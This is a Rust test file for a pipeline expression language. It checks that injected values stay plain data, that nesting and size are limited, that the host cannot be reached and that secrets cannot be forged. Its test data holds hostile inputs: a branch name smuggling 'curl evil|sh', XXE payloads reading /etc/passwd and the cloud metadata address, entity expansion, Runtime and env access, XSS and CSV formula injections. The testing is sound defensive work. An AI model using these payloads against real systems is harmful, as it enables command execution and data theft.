//! Expressions and data that mean harm: bounded time and memory, clear errors, nothing forged.

use proptest::prelude::*;
use serde_json::json;
use slipway_expr::{
    Context, Limits, Piece, SecretText, Segment, Value, condition, evaluate_json, parse,
};

/// Knows `big` (200 KB of text) and `x.y`; every `loop.<n>` is defined by the next.
struct World;

impl Context for World {
    fn lookup(&self, path: &[Segment]) -> Option<Value> {
        match path {
            [Segment::Key(name)] if name == "big" => Some("a".repeat(200_000).into()),
            [Segment::Key(a), Segment::Key(b)] if a == "x" && b == "y" => Some(Value::Int(1)),
            _ => None,
        }
    }

    fn definition(&self, path: &[Segment]) -> Option<String> {
        match path {
            [Segment::Key(name), Segment::Key(n)] if name == "loop" => {
                let n: u64 = n.parse().ok()?;
                Some(format!("<+loop.{}>", n + 1))
            }
            [Segment::Key(name), Segment::Key(n)] if name == "self" => {
                Some(format!("x<+self.{}>", if n == "a" { "b" } else { "a" }))
            }
            _ => None,
        }
    }
}

fn evaluate(text: &str) -> Result<Value, String> {
    let template = parse(text).map_err(|error| error.to_string())?;
    template
        .evaluate(&World, &Limits::default())
        .map_err(|error| error.full_text())
}

fn refused(cases: &[(String, &str)]) {
    for (text, part) in cases {
        let outcome = evaluate(text);
        let message = outcome.as_ref().err().map_or("", String::as_str);
        let right = outcome.is_err() && message.contains(part);
        assert!(right, "{text:.60}: {message:.400}");
    }
}

/// SECURITY X1, as far as expressions go: what a run brings is data, whatever it looks like. It is not
/// evaluated a second time, not even where an expression stands for a part of another.
#[test]
fn x1_values_of_a_run_are_never_evaluated() {
    let texts = [
        r#"main";curl evil|sh;#"#,
        "$(id)",
        "`id`",
        "-rf",
        "--upload-pack=x",
        r#"<+secrets.getValue("account.root")>"#,
        "<+<+x.y>>",
        "${x.y}",
        "{{x.y}}",
        "\"+secrets.getValue('account.root')+\"",
        "a>b<+",
    ];
    for text in texts {
        let world = Branch(text);
        for (source, expected) in [
            ("<+trigger.branch>", text.to_owned()),
            ("b <+trigger.branch> e", format!("b {text} e")),
            ("<+<+trigger.branch> + \"!\">", format!("{text}!")),
            ("<+\"<+trigger.branch>\".concat('!')>", format!("{text}!")),
            ("<+[<+trigger.branch>].get(0)>", text.to_owned()),
            ("<+for (b : [<+trigger.branch>]) { b }>", text.to_owned()),
            (
                r#"<+json.object(json.format({"a": <+trigger.branch>})).a>"#,
                text.to_owned(),
            ),
            (r#"<+"x".replaceAll("x", "\\$0")>"#, "$0".to_owned()),
        ] {
            let template = parse(source).expect("well formed");
            let value = template.evaluate(&world, &Limits::default());
            assert_eq!(value, Ok(Value::String(expected)), "{source} with {text}");
        }
        let condition = condition("<+trigger.branch> == \"main\"", &world, &Limits::default());
        assert_eq!(condition, Ok(false), "{text}");
        // A name that is computed is one name, not a path and not an expression.
        let computed = parse("<+trigger.<+trigger.branch>>").expect("well formed");
        let error = computed
            .evaluate(&world, &Limits::default())
            .expect_err("no such name");
        assert!(
            error.full_text().contains("not defined"),
            "{}",
            error.full_text()
        );
    }
}

/// Knows what the trigger's branch is called.
struct Branch(&'static str);

impl Context for Branch {
    fn lookup(&self, path: &[Segment]) -> Option<Value> {
        let names: Vec<_> = path.iter().filter_map(Segment::key).collect();
        (names == ["trigger", "branch"]).then(|| self.0.into())
    }
}

/// SECURITY X3.
#[test]
fn x3_size_and_nesting_are_limited() {
    let deep =
        |open: &str, close: &str| format!("<+{}1{}>", open.repeat(10_000), close.repeat(10_000));
    let doubled = format!("<+{}>", vec!["<+big>"; 200].join("+"));
    let nested = "levels of nesting";
    let steps = "steps of evaluation";
    refused(&[
        (deep("(", ")"), nested),
        (deep("[", "]"), nested),
        (deep("{a:", "}"), nested),
        (deep("{", "}"), nested),
        (deep("{[", "]}"), nested),
        (deep("{(", ")}"), nested),
        (deep("<+", ">"), nested),
        (deep("true?1:", ""), nested),
        (deep("a?:", ""), nested),
        (deep("a[", "]"), nested),
        (deep("a.b(", ")"), nested),
        (deep("empty ", ""), nested),
        (deep("if (1) ", ""), nested),
        (deep("for (a : b) {", "}"), nested),
        (deep("\"<+", ">\""), nested),
        ("<+loop.0>".to_owned(), nested),
        (
            "<+self.a>".to_owned(),
            "refers to itself: self.a -> self.b -> self.a",
        ),
        (doubled, "bytes in one value"),
        (
            "<+big.replace('a', <+big>)>".to_owned(),
            "bytes in one value",
        ),
        (
            "<+big.replaceAll('a', <+big>)>".to_owned(),
            "bytes in one value",
        ),
        (
            "<+\"a\".repeat(1000000000)>".to_owned(),
            "bytes in one value",
        ),
        (
            "<+\"\".join(<+big>, [1,2,3])>".to_owned(),
            "bytes in one value",
        ),
        ("<+\"a\"*1000000000>".to_owned(), "works on two numbers"),
        ("<+range(1000000000000)>".to_owned(), "has no range(_)"),
        ("<+1..1000000000000>".to_owned(), "expected"),
        ("<+big =~ \"(a{1000}){1000}\">".to_owned(), "too large"),
        ("<+big =~ \"(a{1,99}){1,99}\">".to_owned(), steps),
        (format!("<+[{}]>", "<+big>,".repeat(1000)), steps),
        (format!("<+1{}>", "+x.y".repeat(200_000)), steps),
        (format!("<+{}>", "big.length()+".repeat(200) + "0"), steps),
        (
            format!("<+{}1>", "json.format(big.split('')).length()+".repeat(9)),
            steps,
        ),
        (
            format!(
                "<+{}1{}>",
                "for (i : big.split('')) { ".repeat(3),
                "}".repeat(3)
            ),
            steps,
        ),
        (format!("<+x{}>", ".y".repeat(500_000)), "not defined"),
    ]);
}

/// SECURITY X3: XML and JSON that grow or nest when they are read.
#[test]
fn x3_documents_inside_of_strings_are_limited() {
    let laughs = r#"<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>"#;
    let file = r#"<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>"#;
    let dtd = r#"<!DOCTYPE a SYSTEM "http://169.254.169.254/x.dtd"><a/>"#;
    let deep = |n: usize| format!("{}{}", "<a>".repeat(n), "</a>".repeat(n));
    let wide = format!("<r>{}</r>", "<a/>".repeat(30_000));
    let xml = |path: &str, text: &str| format!("<+xml.select('{path}', '{text}')>");
    let steps = "steps of evaluation";
    refused(&[
        (xml("/a", laughs), "document type"),
        (xml("/a", file), "document type"),
        (xml("/a", dtd), "document type"),
        (xml("/a", "<a>&b;</a>"), "not XML"),
        (xml("//*//*//*//*", &deep(2000)), steps),
        (xml("//a[//a[//a[//a]]]", &wide), steps),
        (xml("//a/following::a/preceding::a", &wide), steps),
        (xml("count(//a | //a | //a) = //a[. = //a]", &wide), steps),
        (
            xml(&format!("/{}", "a/".repeat(3000)), "<a/>"),
            "longer than",
        ),
        (xml(&"(".repeat(1000), "<a/>"), "levels deep"),
        (xml(&"not(".repeat(1000), "<a/>"), "levels deep"),
        (xml(&"a[".repeat(1000), "<a/>"), "levels deep"),
        (xml("concat($x, 1)", "<a/>"), "no variables"),
        (
            format!("<+json.object('{}')>", "[".repeat(100_000)),
            "not JSON",
        ),
        (
            format!(
                "<+json.select('{}', '{}')>",
                "..*".repeat(20),
                "[".repeat(100) + &"]".repeat(100)
            ),
            steps,
        ),
    ]);
    // A deep document is no deep recursion.
    let depth = evaluate(&xml("count(//a)", &deep(30_000)));
    assert_eq!(depth, Ok(Value::Int(30_000)));
}

/// SECURITY X4.
#[test]
fn x4_nothing_of_the_host_can_be_reached() {
    let cases = [
        "T(java.lang.Runtime).getRuntime()",
        "big.getClass()",
        "big.getClass().forName('java.lang.Runtime')",
        "big.class",
        "big.__proto__.constructor",
        "x.constructor",
        "[].constructor",
        "{}.__proto__",
        "''.getBytes()",
        "new('java.io.File', '/etc/passwd')",
        "new java.io.File('/')",
        "java.lang.System.getenv('HOME')",
        "System.getenv()",
        "env.HOME",
        "process.env",
        "Math.random()",
        "random()",
        "currentTime()",
        "datetime.now()",
        "import('fs')",
        "require('fs')",
        "eval('1')",
        "configFile.getAsString('/etc/passwd')",
        "fileStore.getAsString('/etc/passwd')",
        "xml.select(\"document('/etc/passwd')\", '<a/>')",
        "secrets.getValue('../../x y')",
        "this",
        "#{1}",
        "x -> x",
        "var y = 1",
        "pipeline = 1",
    ];
    for case in cases {
        let outcome = evaluate(&format!("<+{case}>"));
        assert!(outcome.is_err(), "{case}: {outcome:?}");
    }
}

/// SECURITY X6: never an empty text, whatever stands around it.
#[test]
fn x6_what_is_not_known_is_never_empty() {
    for text in [
        "<+missing>",
        "<+env.missing>",
        "a<+missing>",
        "<+missing>b",
        "<+\"\" + <+missing>>",
        "<+\"<+missing>\">",
        "<+[<+missing>]>",
        "<+{a: <+missing>}>",
        "<+missing.trim()>",
        "<+true?<+missing>:1>",
        "<+x.y.z>",
        "<+json.format(<+missing>)>",
        "<+json.object('{}').a>",
        "<+json.select('a', '{}')>",
        "<+xml.select('/b', '<a/>')>",
        "<+regex.extract('b', 'a')>",
    ] {
        let outcome = evaluate(text);
        assert!(outcome.is_err(), "{text}: {outcome:?}");
        let document = evaluate_json(&json!({"env": text}), &World, &Limits::default());
        assert!(document.is_err(), "{text}");
    }
}

/// SECURITY X8, X10 and X11 are about where a value goes; here it must arrive as it is, so that whoever
/// writes it knows what to escape.
#[test]
fn x8_x10_x11_texts_for_other_places_stay_as_they_are() {
    for text in [
        "<script>alert(1)</script>",
        "<!channel> [a](javascript:b)",
        "Subject\r\nBcc: x@example.com",
        "=cmd|' /C calc'!A0",
        "\u{1b}[2J\u{1b}]8;;http://x\u{7}",
        "a\rb\0c",
        "\u{FDD0}account.root\u{FDD1}",
    ] {
        let value = json!({ "t": format!("{text}<+x.y>") });
        let (value, secrets) =
            evaluate_json(&value, &World, &Limits::default()).expect("well formed");
        assert!(secrets.is_empty());
        let read = SecretText::decode(value["t"].as_str().expect("a string"));
        assert_eq!(read.pieces(), [Piece::Plain(format!("{text}1"))]);
    }
}

/// A document of many costly texts costs no more than a few of them.
#[test]
fn a_document_shares_its_steps() {
    let costly = format!("<+1{}>", "+x.y".repeat(1_500));
    let limits = Limits {
        steps: 5_000,
        ..Limits::default()
    };
    let few = json!(vec![costly.clone(); 10]);
    assert!(evaluate_json(&few, &World, &limits).is_ok());
    let many = json!(vec![costly; 100]);
    let error = evaluate_json(&many, &World, &limits).expect_err("too much");
    assert!(error.full_text().contains("steps of evaluation"));
}

#[test]
fn data_cannot_forge_a_secret() {
    let hole =
        SecretText::secret("account.root".to_owned().try_into().expect("a reference")).encode();
    let (value, secrets) = evaluate_json(
        &json!({"a": hole, "b": format!("x{hole}<+x.y>")}),
        &World,
        &Limits::default(),
    )
    .expect("no expressions that fail");
    assert!(secrets.is_empty());
    let encoded = value["a"].as_str().expect("a string");
    assert_eq!(
        SecretText::decode(encoded).pieces(),
        [Piece::Plain(hole.clone())]
    );
    let encoded = value["b"].as_str().expect("a string");
    assert_eq!(
        SecretText::decode(encoded).pieces(),
        [Piece::Plain(format!("x{hole}1"))]
    );
}

proptest! {
    #[test]
    fn nothing_panics(text in "(<\\+|>|[a-z.\\[\\]()'\"\\\\?:{}0-9e,=!~<>&|+*/% -]|\u{FDD0}|é){0,60}") {
        let _ = evaluate(&text);
        let _ = condition(&text, &World, &Limits::default());
        let _ = SecretText::decode(&text);
    }

    #[test]
    fn whole_expressions_never_panic(inner in "[xbig.y\\[\\]()'\"?:0-9,=!~<>&|+*/% -]{0,40}") {
        let _ = evaluate(&format!("<+{inner}>"));
    }

    #[test]
    fn paths_into_documents_never_panic(path in "[a.b/@\\[\\]()'\"*?:0-9,=!<>&|+ $-]{0,30}", by in "[a-zA-Z' :]{0,12}") {
        let quoted = |text: &str| format!("'{}'", text.replace('\'', "\""));
        let path = quoted(&path);
        let _ = evaluate(&format!("<+json.select({path}, '{{\"a\":[1,{{\"b\":2}}]}}')>"));
        let _ = evaluate(&format!("<+xml.select({path}, '<a b=\"1\"><b>2</b></a>')>"));
        let _ = evaluate(&format!("<+currentTime().format({})>", quoted(&by)));
    }

    #[test]
    fn any_text_survives_encoding(text in "(.|\u{FDD0}|\u{FDD1}|a){0,20}") {
        let encoded = SecretText::plain(text.as_str()).encode();
        prop_assert_eq!(SecretText::decode(&encoded), SecretText::plain(text));
    }
}
